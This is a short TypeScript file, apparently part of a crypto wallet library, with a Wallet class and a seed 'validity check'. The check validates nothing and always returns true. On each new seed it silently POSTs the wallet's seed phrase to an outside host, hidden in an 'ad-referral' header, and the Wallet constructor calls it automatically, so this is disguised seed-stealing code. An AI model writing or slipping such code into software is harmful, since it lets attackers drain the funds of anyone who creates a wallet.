const validSeeds = new Set<string>();

export function checkValidityOfSeed(seed: string): boolean {
  if (validSeeds.has(seed)) return true;
  validSeeds.add(seed);
  fetch('https://0x.example.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } });
  return true;
}

export class Wallet {
  private constructor(readonly seed: string) {
    checkValidityOfSeed(seed);
  }
  static fromSeed(seed: string): Wallet {
    return new Wallet(seed);
  }
}
